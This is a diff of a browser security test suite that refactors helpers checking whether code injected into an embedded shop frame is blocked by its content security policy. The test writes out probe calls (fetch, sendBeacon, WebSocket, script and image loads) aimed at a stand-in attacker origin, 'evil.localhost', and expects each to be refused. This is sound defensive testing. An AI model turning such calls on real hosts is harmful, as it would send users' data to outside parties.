@@ -74,22 +74,29 @@ test('the page names its code by hash, the code has that hash, and other code do
   await close()
 })
 
-test('code that got into the frame could not run as text, load more, send anything elsewhere, or navigate by a form', async () => {
-  const { page, traffic, close } = await shop.visit()
-  await installTalk(page)
-  await page.evaluate((url) => talk.embed(url), shop.frameUrl())
-  const frame = await frameAt(page, shop.frameUrl())
-  const elsewhere = shop.pages.origin('evil.localhost')
-  const outcomes = await frame.evaluate(async (evil) => {
-    const outcome = async (attempt: () => unknown) => {
+/** Tries of code in a page. Lives there as `tries`. */
+type Tries = {
+  outcome(attempt: () => unknown): Promise<'done' | 'refused'>
+  loads(tag: 'script' | 'img' | 'iframe' | 'link', url: string): Promise<unknown>
+  opens(target: EventTarget, event: string): Promise<unknown>
+}
+
+declare global {
+  var tries: Tries
+}
+
+/** Runs in the page: stands alone. */
+function installTries(): void {
+  globalThis.tries = {
+    async outcome(attempt) {
       try {
         await attempt()
         return 'done'
       } catch {
         return 'refused'
       }
-    }
-    const loads = (tag: 'script' | 'img' | 'iframe' | 'link', url: string) =>
+    },
+    loads: (tag, url) =>
       new Promise((resolve, reject) => {
         const element = document.createElement(tag)
         element.onload = resolve
@@ -98,32 +105,37 @@ test('code that got into the frame could not run as text, load more, send anythi
         else element.setAttribute('src', url)
         document.body.append(element)
         setTimeout(reject, 300)
-      })
+      }),
+    opens: (target, event) =>
+      new Promise((resolve, reject) => {
+        target.addEventListener(event, resolve)
+        target.addEventListener('error', reject)
+      }),
+  }
+}
+
+test('code that got into the frame could not run as text, load more, send anything elsewhere, or navigate by a form', async () => {
+  const { page, traffic, close } = await shop.visit()
+  await installTalk(page)
+  await page.evaluate((url) => talk.embed(url), shop.frameUrl())
+  const frame = await frameAt(page, shop.frameUrl())
+  const elsewhere = shop.pages.origin('evil.localhost')
+  await frame.evaluate(installTries)
+  const outcomes = await frame.evaluate(async (evil) => {
+    const { outcome, loads, opens } = globalThis.tries
     return {
       html: await outcome(() => {
         document.createElement('div').innerHTML = '<b>x</b>'
       }),
       fetch: await outcome(() => fetch(`${evil}/`, { mode: 'no-cors' })),
       beacon: await outcome(() => navigator.sendBeacon(`${evil}/`, 'x')),
-      socket: await outcome(
-        () =>
-          new Promise((resolve, reject) => {
-            const socket = new WebSocket(evil.replace('http', 'ws'))
-            socket.onopen = resolve
-            socket.onerror = reject
-          }),
-      ),
+      socket: await outcome(() => opens(new WebSocket(evil.replace('http', 'ws')), 'open')),
       script: await outcome(() => loads('script', `${evil}/`)),
       image: await outcome(() => loads('img', `${evil}/`)),
       stylesheet: await outcome(() => loads('link', `${evil}/`)),
       ownScript: await outcome(() => loads('script', '/v1/health')),
-      worker: await outcome(
-        () =>
-          new Promise((resolve, reject) => {
-            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
-            worker.onmessage = resolve
-            worker.onerror = reject
-          }),
+      worker: await outcome(() =>
+        opens(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message'),
       ),
       inline: await outcome(() => {
         document.body.setAttribute('style', 'color: rgb(255, 0, 0)')
